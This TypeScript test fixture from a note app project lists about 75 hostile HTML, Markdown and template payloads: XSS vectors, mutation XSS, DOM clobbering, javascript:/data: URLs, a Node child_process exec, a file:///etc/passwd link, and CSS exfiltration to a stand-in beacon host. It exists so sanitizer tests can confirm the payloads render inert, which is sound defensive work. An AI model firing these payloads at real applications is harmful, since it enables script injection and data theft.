/**
 * Dossier's own hostile-content corpus: the kinds of input that turned note apps' and sanitizers'
 * rendering into script execution, written for this project (not copied from any advisory or test
 * suite). Every payload that would run script sets the canary and opens an alert; every payload
 * that would fetch something asks for a host under `.invalid`, a name that can never resolve.
 * A safe app shows each one as inert text, or drops it, everywhere it goes.
 */

/** The global a payload sets when its script runs. Never set in a passing run. */
export const CANARY = '__dossierHostileCanary';
/** Where a payload that leaks or tracks would send its request. */
export const BEACON = 'https://beacon.dossier-canary.invalid';

const RUN = `top.${CANARY}=1;alert(1)`;
/** The same, without characters that need quoting inside an HTML attribute. */
const RUN_BARE = `top.${CANARY}=1,alert(1)`;

export type HostileFamily =
  | 'advisory: note HTML runs script (Joplin CVE-2020-15930 class)'
  | 'advisory: preview iframe / embed (Zettlr #1716 class)'
  | 'advisory: markup macro becomes HTML (Logseq #6291 class)'
  | 'advisory: pasted or linked HTML in the editor (MarkText #2360/#2601 class)'
  | 'advisory: diagram or embed source runs script (Typora #3124 class)'
  | 'mutation XSS'
  | 'SVG/MathML namespace confusion'
  | 'DOM clobbering'
  | 'javascript:/data: URLs'
  | 'iframe srcdoc'
  | 'details ontoggle and other auto-firing events'
  | 'meta refresh and base'
  | 'CSS exfiltration and tracking'
  | 'template and prototype injection';

export interface HostilePayload {
  id: string;
  family: HostileFamily;
  /** Markup (or Markdown) as an attacker would put it in an article, a comment or a note. */
  payload: string;
}

const p = (family: HostileFamily, id: string, payload: string): HostilePayload => ({ id, family, payload });

export const HOSTILE_PAYLOADS: HostilePayload[] = [
  // A note app that renders the note's HTML in a Node-enabled window turns any event handler into code execution.
  p('advisory: note HTML runs script (Joplin CVE-2020-15930 class)', 'note-img-onerror', `<img src="x:missing" onerror="${RUN_BARE};require('child_process').exec('id')">`),
  p('advisory: note HTML runs script (Joplin CVE-2020-15930 class)', 'note-script', `<script>${RUN}</script>`),
  p('advisory: note HTML runs script (Joplin CVE-2020-15930 class)', 'note-script-src', `<script src="${BEACON}/x.js"></script>`),
  p('advisory: note HTML runs script (Joplin CVE-2020-15930 class)', 'note-body-onload', `<body onload="${RUN_BARE}">`),
  p('advisory: note HTML runs script (Joplin CVE-2020-15930 class)', 'note-autofocus', `<input autofocus onfocus="${RUN_BARE}">`),
  p('advisory: note HTML runs script (Joplin CVE-2020-15930 class)', 'note-uppercase-handler', `<IMG SRC=x:y ONERROR=${RUN_BARE}>`),
  p('advisory: note HTML runs script (Joplin CVE-2020-15930 class)', 'note-entity-handler', `<img src=x:y onerror="&#116;op.${CANARY}=1">`),
  // Markdown previews that allow iframes and embeds load whatever the document names.
  p('advisory: preview iframe / embed (Zettlr #1716 class)', 'preview-iframe-js', `<iframe src="javascript:${RUN_BARE}"></iframe>`),
  p('advisory: preview iframe / embed (Zettlr #1716 class)', 'preview-iframe-remote', `<iframe src="${BEACON}/frame.html" width=1 height=1></iframe>`),
  p('advisory: preview iframe / embed (Zettlr #1716 class)', 'preview-embed', `<embed src="javascript:${RUN_BARE}">`),
  p('advisory: preview iframe / embed (Zettlr #1716 class)', 'preview-object', `<object data="${BEACON}/object.swf"></object>`),
  // Outliner macros and hiccup-style markup that a renderer turns into live elements.
  p('advisory: markup macro becomes HTML (Logseq #6291 class)', 'macro-hiccup', `[:img {:src "x:y" :onerror "${RUN_BARE}"}]`),
  p('advisory: markup macro becomes HTML (Logseq #6291 class)', 'macro-html-block', `@@html: <img src=x:y onerror="${RUN_BARE}">@@`),
  p('advisory: markup macro becomes HTML (Logseq #6291 class)', 'macro-embed', `{{embed <svg onload="${RUN_BARE}">}}`),
  // Editors that keep pasted HTML or render link text/titles as markup.
  p('advisory: pasted or linked HTML in the editor (MarkText #2360/#2601 class)', 'editor-link-title', `[caption](https://example.org "\\"><img src=x:y onerror=${RUN_BARE}>")`),
  p('advisory: pasted or linked HTML in the editor (MarkText #2360/#2601 class)', 'editor-js-link', `[open the report](javascript:${RUN_BARE})`),
  p('advisory: pasted or linked HTML in the editor (MarkText #2360/#2601 class)', 'editor-autolink', `<javascript:${RUN_BARE}>`),
  p('advisory: pasted or linked HTML in the editor (MarkText #2360/#2601 class)', 'editor-image-alt', `![" onerror="${RUN_BARE}](x:y)`),
  p('advisory: pasted or linked HTML in the editor (MarkText #2360/#2601 class)', 'editor-code-breakout', "```\n</code><img src=x:y onerror=" + RUN_BARE + ">\n```"),
  // Diagram blocks and embeds whose source becomes markup.
  p('advisory: diagram or embed source runs script (Typora #3124 class)', 'diagram-click', "```mermaid\ngraph LR\n  A-->B\n  click A \"javascript:" + RUN_BARE + "\"\n```"),
  p('advisory: diagram or embed source runs script (Typora #3124 class)', 'diagram-label', "```mermaid\ngraph LR\n  A[\"<img src=x:y onerror=" + RUN_BARE + ">\"]\n```"),
  p('advisory: diagram or embed source runs script (Typora #3124 class)', 'math-block', `$$\\href{javascript:${RUN_BARE}}{x}$$`),

  // Markup that changes meaning when a sanitizer's output is parsed a second time.
  p('mutation XSS', 'mxss-noscript', `<noscript><p title="</noscript><img src=x:y onerror=${RUN_BARE}>"></noscript>`),
  p('mutation XSS', 'mxss-style-in-svg', `<svg></p><style><a id="</style><img src=x:y onerror=${RUN_BARE}>"></style></svg>`),
  p('mutation XSS', 'mxss-table-mglyph', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:y onerror=${RUN_BARE}&gt;"></mglyph></table></mtext></math>`),
  p('mutation XSS', 'mxss-textarea', `<textarea></textarea><img src=x:y onerror=${RUN_BARE}></textarea>`),
  p('mutation XSS', 'mxss-backtick', '<img src="x:y` `<img src=x:y onerror=' + RUN_BARE + '>//">'),
  p('mutation XSS', 'mxss-comment', `<!--><img src=x:y onerror=${RUN_BARE}>-->`),
  p('mutation XSS', 'mxss-cdata', `<svg><![CDATA[><img src=x:y onerror=${RUN_BARE}>]]></svg>`),
  // Elements whose namespace decides whether their content is text or markup.
  p('SVG/MathML namespace confusion', 'ns-foreignobject', `<svg><foreignObject><img src=x:y onerror="${RUN_BARE}"></foreignObject></svg>`),
  p('SVG/MathML namespace confusion', 'ns-svg-style', `<svg><style><img src=x:y onerror="${RUN_BARE}"></style></svg>`),
  p('SVG/MathML namespace confusion', 'ns-svg-animate', `<svg><animate onbegin="${RUN_BARE}" attributeName=x dur=1s></svg>`),
  p('SVG/MathML namespace confusion', 'ns-svg-set-href', `<svg><a><set attributeName=href to="javascript:${RUN_BARE}"/><text y=20>click</text></a></svg>`),
  p('SVG/MathML namespace confusion', 'ns-math-href', `<math><mi xlink:href="javascript:${RUN_BARE}">click</mi></math>`),
  p('SVG/MathML namespace confusion', 'ns-math-annotation', `<math><annotation-xml encoding="text/html"><img src=x:y onerror="${RUN_BARE}"></annotation-xml></math>`),
  p('SVG/MathML namespace confusion', 'ns-svg-use', `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:y' onerror='${RUN_BARE}'/></svg>#x"/></svg>`),
  // Named elements that overwrite the globals an app's own script reads.
  p('DOM clobbering', 'clobber-dossier', `<form id="dossier"><input name="call" value="x"></form>`),
  p('DOM clobbering', 'clobber-document', `<img name="getElementById"><img name="cookie"><form name="body"></form>`),
  p('DOM clobbering', 'clobber-nested', `<a id="CSS"></a><a id="CSS" name="highlights" href="x:y"></a>`),
  p('DOM clobbering', 'clobber-config', `<a id="__proto__" href="javascript:${RUN_BARE}"></a><iframe name="defaultView"></iframe>`),
  // Links and sources that run or render a document of the attacker's choosing.
  p('javascript:/data: URLs', 'url-javascript', `<a href="javascript:${RUN_BARE}">Read the source</a>`),
  p('javascript:/data: URLs', 'url-javascript-tab', `<a href="jav&#x09;ascript:${RUN_BARE}">tab</a>`),
  p('javascript:/data: URLs', 'url-javascript-entity', `<a href="&#106;avascript&colon;${RUN_BARE}">entity</a>`),
  p('javascript:/data: URLs', 'url-javascript-space', `<a href=" \u0001javascript:${RUN_BARE}">space</a>`),
  p('javascript:/data: URLs', 'url-vbscript', `<a href="vbscript:msgbox(1)">vb</a>`),
  p('javascript:/data: URLs', 'url-data-html', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`),
  p('javascript:/data: URLs', 'url-data-object', `<object data="data:text/html,<script>${RUN}</script>"></object>`),
  p('javascript:/data: URLs', 'url-form-action', `<form action="javascript:${RUN_BARE}"><button>Submit</button></form>`),
  p('javascript:/data: URLs', 'url-formaction', `<button formaction="javascript:${RUN_BARE}">Go</button>`),
  p('javascript:/data: URLs', 'url-markdown-ref', `[ref]: javascript:${RUN_BARE}`),
  p('javascript:/data: URLs', 'url-file', `<a href="file:///etc/passwd">local</a><img src="file:///etc/hostname">`),
  // A frame whose document is inline.
  p('iframe srcdoc', 'srcdoc-script', `<iframe srcdoc="<script>${RUN}</script>"></iframe>`),
  p('iframe srcdoc', 'srcdoc-entity', `<iframe srcdoc="&lt;img src=x:y onerror=${RUN_BARE}&gt;"></iframe>`),
  p('iframe srcdoc', 'srcdoc-nested', `<iframe srcdoc="<iframe srcdoc='<svg onload=${RUN_BARE}>'></iframe>"></iframe>`),
  // Handlers that fire without any click.
  p('details ontoggle and other auto-firing events', 'auto-details', `<details open ontoggle="${RUN_BARE}"><summary>x</summary></details>`),
  p('details ontoggle and other auto-firing events', 'auto-svg-onload', `<svg onload="${RUN_BARE}"></svg>`),
  p('details ontoggle and other auto-firing events', 'auto-video', `<video><source onerror="${RUN_BARE}"></video>`),
  p('details ontoggle and other auto-firing events', 'auto-marquee', `<marquee onstart="${RUN_BARE}">x</marquee>`),
  p('details ontoggle and other auto-firing events', 'auto-animation', `<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart="${RUN_BARE}"></div>`),
  p('details ontoggle and other auto-firing events', 'auto-popover', `<button popovertarget=x>b</button><div id=x popover onbeforetoggle="${RUN_BARE}">x</div>`),
  // Head-level elements that move the page elsewhere or change where its links point.
  p('meta refresh and base', 'meta-refresh-js', `<meta http-equiv="refresh" content="0;url=javascript:${RUN_BARE}">`),
  p('meta refresh and base', 'meta-refresh-remote', `<meta http-equiv="refresh" content="0; url=${BEACON}/refresh">`),
  p('meta refresh and base', 'base-href', `<base href="${BEACON}/">`),
  p('meta refresh and base', 'meta-csp-override', `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`),
  // Styles that leak what the page holds, or just that it was opened.
  p('CSS exfiltration and tracking', 'css-attr-selector', `<style>input[value^="a"]{background:url(${BEACON}/leak?a)}</style><input value="abc">`),
  p('CSS exfiltration and tracking', 'css-import', `<style>@import url("${BEACON}/import.css");</style>`),
  p('CSS exfiltration and tracking', 'css-inline-bg', `<div style="background-image:url('${BEACON}/bg.png')">styled</div>`),
  p('CSS exfiltration and tracking', 'css-font-range', `<style>@font-face{font-family:l;src:url(${BEACON}/font?A);unicode-range:U+0041}body{font-family:l}</style>`),
  p('CSS exfiltration and tracking', 'css-link', `<link rel="stylesheet" href="${BEACON}/sheet.css">`),
  p('CSS exfiltration and tracking', 'css-pixel', `<img src="${BEACON}/pixel.gif" width=1 height=1>`),
  p('CSS exfiltration and tracking', 'css-srcset', `<img srcset="${BEACON}/a.png 1x, ${BEACON}/b.png 2x">`),
  p('CSS exfiltration and tracking', 'css-markdown-image', `![tracker](${BEACON}/md.png)`),
  p('CSS exfiltration and tracking', 'css-prefetch', `<link rel="prefetch" href="${BEACON}/prefetch"><link rel="dns-prefetch" href="${BEACON}">`),
  // Text that a template engine or a naive object merge would evaluate.
  p('template and prototype injection', 'tpl-angular', `{{constructor.constructor('${RUN}')()}}`),
  p('template and prototype injection', 'tpl-dollar', `\${${RUN}}`),
  p('template and prototype injection', 'tpl-proto-json', `{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}`),
];
